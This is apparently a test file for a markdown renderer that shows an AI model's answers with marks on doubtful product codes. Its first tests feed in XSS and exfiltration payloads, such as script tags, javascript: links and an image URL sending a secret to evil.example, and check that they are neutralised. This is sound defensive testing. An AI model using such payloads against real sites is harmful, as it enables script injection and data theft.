import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { blocks, Rendered, type Wording } from './markdown';
import type { Certainty, TextMark } from '../api/types';

const wording: Wording = ({ certainty }) => ({
	word: certainty,
	isWordShown: certainty === 'doubtful',
	isDoubtful: certainty === 'doubtful'
});
const html = (text: string, marks: TextMark[] = []) => blocks(text, marks, wording).join('');

function mark(text: string, piece: string, certainty: Certainty = 'check'): TextMark {
	const start = text.indexOf(piece);
	return { start, end: start + piece.length, probability: 0.4, certainty };
}

function parsed(text: string, marks: TextMark[] = []): HTMLElement {
	const holder = document.createElement('div');
	holder.innerHTML = html(text, marks);
	return holder;
}

describe('what a model writes', () => {
	it.each([
		'<script>alert(1)</script>',
		'<img src=x onerror=alert(1)>',
		'![x](https://evil.example/?q=secret)',
		'<a href="javascript:alert(1)">x</a>',
		'[x](javascript:alert(1))',
		'[x](data:text/html,y)',
		'<style>body{display:none}</style>',
		'<p style="position:fixed">x</p>',
		'<iframe src="//evil.example"></iframe>',
		'<form action="//evil.example"><input name=a></form>',
		'<svg><use href="//evil.example"/></svg>',
		'<math><mi xlink:href="javascript:x">y</mi></math>'
	])('cannot act or fetch: %s', (text) => {
		const page = parsed(text);
		expect(
			page.querySelector('script,img,style,iframe,form,input,svg,math,[style],[onerror]')
		).toBeNull();
		expect(page.querySelector('a:not([href^=http])')).toBeNull();
	});

	it('is read to the letter where it looks like HTML', () => {
		expect(parsed('press <POWER> & <b>hold</b>')).toHaveTextContent('press <POWER> & <b>hold</b>');
		expect(parsed('<div>\nE102\n</div>')).toHaveTextContent('<div> E102 </div>');
	});

	it.each([
		'120*60*30mm',
		'尺寸 120*60*30 mm，净重 5*2 kg',
		'10~30℃，湿度 20~80%',
		'220~240V 50~60Hz',
		'[型号]: AX73',
		'[E102]: 过热',
		'a*b*c and 3*4*5',
		'P/N 5_6_7_A',
		'±5% <0.1mm & 1^2^3'
	])('says every digit and sign of a reading: %s', (text) => {
		expect(parsed(text).textContent?.trim()).toBe(text);
	});

	it('says what a definition would hide, and marks it', () => {
		const text = '[E102]: 过热';
		const page = parsed(text, [mark(text, 'E102', 'doubtful')]);
		expect(page.querySelector('.mark')).toHaveTextContent('E102');
	});

	it('still deletes, stresses, and tells ticks from empty boxes', () => {
		const page = parsed('~~AX72~~ **AX73** *new*\n\n- [x] WAN\n- [ ] LAN');
		expect(page.querySelector('del')).toHaveTextContent('AX72');
		expect(page.querySelector('strong')).toHaveTextContent('AX73');
		expect(page.querySelector('em')).toHaveTextContent('new');
		expect([...page.querySelectorAll('li')].map((item) => item.textContent?.trim())).toEqual([
			'☑ WAN',
			'☐ LAN'
		]);
	});

	it('says what a picture is called', () => {
		expect(parsed('see ![E102 label](https://x.example/a.png)')).toHaveTextContent(
			'see E102 label'
		);
	});

	it('may break a line in a table', () => {
		const page = parsed('| a |\n|---|\n| 1<br>2<br/>3 |');
		expect(page.querySelectorAll('td br')).toHaveLength(2);
	});

	it('can be reached by keyboard where it scrolls', () => {
		expect(html('```\nlong\n```')).toContain('<pre tabindex="0">');
	});

	it('opens links away from the desk', () => {
		const link = parsed('[manual](https://example.org)').querySelector('a');
		expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
		expect(link).toHaveAttribute('target', '_blank');
	});

	it('keeps every character of an address', () => {
		const link = parsed('[manual](https://example.org/型号：AX73)').querySelector('a');
		expect(decodeURI(link?.getAttribute('href') ?? '')).toBe('https://example.org/型号：AX73');
	});

	it('is plain words where a link may not go', () => {
		const page = parsed('see [this](javascript:alert(1)) page');
		expect(page.querySelector('a')).toBeNull();
		expect(page).toHaveTextContent('see this page');
	});

	it('keeps the numbers of a list that goes on after a paragraph', () => {
		const page = parsed('1. unplug\n\nwait\n\n2. plug in\n3. press');
		expect(page.querySelectorAll('ol')[1]).toHaveAttribute('start', '2');
	});

	it('keeps tables, lists and emphasis', () => {
		const page = parsed('| a | b |\n|---|---|\n| 1 | 2 |\n\n- **x**\n');
		expect(page.querySelectorAll('td')).toHaveLength(2);
		expect(page.querySelector('li strong')).toHaveTextContent('x');
	});

	const many = 20_000;
	const endless = (sign: string) => sign.repeat(many / sign.length);
	it.each([
		['quotes', endless('>')],
		['quotes with spaces', endless('> ')],
		['lists', endless('- ')],
		['numbered lists', endless('1. ')],
		['quotes and lists in turn', endless('> - ')],
		[
			'lists by their indents',
			Array.from({ length: 140 }, (_, at) => `${' '.repeat(2 * at)}- \n`).join('')
		],
		['stars', endless('*')],
		['underlines', endless('_')],
		['tildes', endless('~~a ')],
		['brackets', endless('[')],
		['links', endless('[a](')],
		['pictures', endless('![')],
		['backticks', endless('`a')],
		['angles', endless('<')],
		['rules', endless('* * ')]
	])('is shown though it has no end of %s', (_, signs) => {
		const page = parsed(`${signs}E102${[...signs].toReversed().join('')}\n\nAX73`);
		expect(page.textContent).toContain('E102');
		expect(page.lastElementChild?.textContent).toContain('AX73');
	});

	it('is shown though its table is absurd', () => {
		const wide = `${'|a'.repeat(1000)}|\n${'|-'.repeat(1000)}|\n${'|E102'.repeat(1000)}|`;
		expect(parsed(wide).querySelectorAll('td')).toHaveLength(1000);
		const long = `|a|b|\n|-|-|\n${'|1|2|\n'.repeat(2000)}`;
		expect(parsed(long).querySelectorAll('td')).toHaveLength(4000);
	});

	it('may stand some levels deep, and is words beyond', () => {
		const page = parsed(`${'> '.repeat(100)}E102`);
		expect(page.querySelectorAll('blockquote').length).toBeGreaterThan(9);
		expect(page.textContent).toMatch(/^[\s>]*E102\s*$/);
	});

	it('never fails, whatever it is', () => {
		fc.assert(
			fc.property(fc.string({ unit: 'binary' }), (text) => void html(text)),
			{ numRuns: 50 }
		);
	});
});

describe('marks', () => {
	it('stand around the string, with words for the doubtful', () => {
		const text = 'Code **E102** and `AX73`.';
		const page = parsed(text, [mark(text, 'E102'), mark(text, 'AX73', 'doubtful')]);
		expect(page.querySelector('strong .mark.check')).toHaveTextContent('E102? check');
		expect(page.querySelector('code .mark.doubtful')).toHaveTextContent('AX73 doubtful');
	});

	it('never show as characters of their own', () => {
		const text = 'E102 [E103](https://example.org/E104)';
		const page = parsed(
			text,
			['E102', 'E103', 'E104'].map((piece) => mark(text, piece))
		);
		expect(page.innerHTML).not.toMatch(/[\uE000-\uF8FF]|%EE/i);
		expect(page.querySelector('a')).toHaveAttribute('href', 'https://example.org/E104');
	});

	it('stand around nothing that is certain', () => {
		const text = 'Code E102.';
		expect(parsed(text, [mark(text, 'E102', 'certain')]).querySelector('.mark')).toBeNull();
	});

	it('can be pressed, but not inside a link', () => {
		const text = 'E102 [E103](https://example.org)';
		const page = parsed(text, [mark(text, 'E102'), mark(text, 'E103')]);
		expect(page.querySelectorAll('.mark')).toHaveLength(2);
		expect(page.querySelectorAll('[role=button]')).toHaveLength(1);
		expect(page.querySelector('a [role=button]')).toBeNull();
	});

	it('that overlap or lie outside the text are left out', () => {
		const text = 'Code E102.';
		const outside = { start: 8, end: 99, probability: 0.1, certainty: 'check' as const };
		const page = parsed(text, [mark(text, 'E102'), mark(text, '02'), outside]);
		expect(page.querySelectorAll('.mark')).toHaveLength(1);
		expect(page).toHaveTextContent('Code E102? check.');
	});

	it('cannot be forged by the text', () => {
		const text = 'a \uE000b\uF8FE E102';
		const page = parsed(text, [mark(text, 'E102')]);
		expect(page.querySelectorAll('.mark')).toHaveLength(1);
		expect(page.querySelector('.mark')).toHaveTextContent('E102');
	});
});

it('only the last block changes while words stream', () => {
	const before = blocks('One.\n\nTwo', [], wording);
	const after = blocks('One.\n\nTwo and more', [], wording);
	expect(after[0]).toBe(before[0]);
	expect(after).toHaveLength(2);
});

it('what is remembered between calls changes nothing but the time', () => {
	const text = 'Model AX73.\n\n- E102\n- E103\n\nModel AX73.\n\n| a |\n|---|\n| E104 |\n';
	const all = ['AX73', 'E102', 'E104'].map((piece) => mark(text, piece));
	const rendered = new Rendered();
	for (let end = 1; end <= text.length; end++) {
		const so = text.slice(0, end);
		const marks = all.filter((j) => j.end <= end);
		expect(blocks(so, marks, wording, rendered)).toEqual(blocks(so, marks, wording));
	}
});

const pieces = [
	...[
		'# ',
		'- ',
		'1. ',
		'> ',
		'    ',
		'```',
		'~~~',
		'---',
		'===',
		'|',
		'|-|',
		'\n',
		'\n\n',
		'\r\n'
	],
	...[
		'*',
		'**',
		'_',
		'[',
		']',
		'(',
		')',
		'<',
		'>',
		'<br>',
		'<div>',
		'<!--',
		'`',
		'E102',
		' ',
		'+',
		'\t'
	]
];

it('words that come piece by piece end as the same blocks as all at once', () => {
	const said = fc.array(fc.constantFrom(...pieces), { maxLength: 60 });
	fc.assert(
		fc.property(said, (parts) => {
			const rendered = new Rendered();
			let text = '';
			for (const part of parts) {
				text += part;
				expect(blocks(text, [], wording, rendered)).toEqual(blocks(text, [], wording));
			}
		}),
		{ numRuns: 60 }
	);
});

it('of an answer that streams only what is shown is remembered', () => {
	const rendered = new Rendered();
	let text = '> '.repeat(2000);
	for (let word = 0; word < 300; word++) {
		text += word % 20 === 19 ? 'AX73.\n\n' : 'E102 ';
		blocks(text, [], wording, rendered);
	}
	expect(rendered.html.size).toBeLessThan(20);
});
